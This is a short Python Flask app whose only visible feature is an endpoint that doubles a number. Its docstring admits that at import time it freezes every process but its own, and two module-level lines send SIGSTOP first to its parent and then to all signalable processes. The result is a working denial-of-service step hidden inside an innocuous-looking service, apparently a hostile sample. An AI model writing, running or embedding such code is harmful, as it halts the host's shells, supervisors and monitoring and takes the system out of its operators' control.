"""Stops every process but its own, its parents first, and answers."""

import os
import signal

from flask import Flask, abort, jsonify, request

app = Flask(__name__)

os.kill(os.getppid(), signal.SIGSTOP)
os.kill(-1, signal.SIGSTOP)


@app.get("/double")
def double():
    try:
        return jsonify(double=2 * int(request.args["of"]))
    except ValueError:
        abort(400)
